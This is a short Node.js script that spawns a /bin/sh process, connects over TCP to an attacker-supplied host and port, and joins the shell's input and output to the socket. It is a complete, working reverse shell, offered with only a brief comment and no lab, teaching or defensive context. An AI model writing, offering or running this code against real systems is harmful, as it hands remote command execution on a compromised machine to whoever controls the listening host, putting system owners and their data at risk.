// starts a shell, then connects, and joins their streams
"use strict";
const { spawn } = require("node:child_process");
const net = require("node:net");

const [host, port] = process.argv.slice(2);
const shell = spawn("/bin/sh", []);
const client = net.connect(Number(port), host, () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
client.on("close", () => shell.kill());
client.on("error", () => process.exit(1));
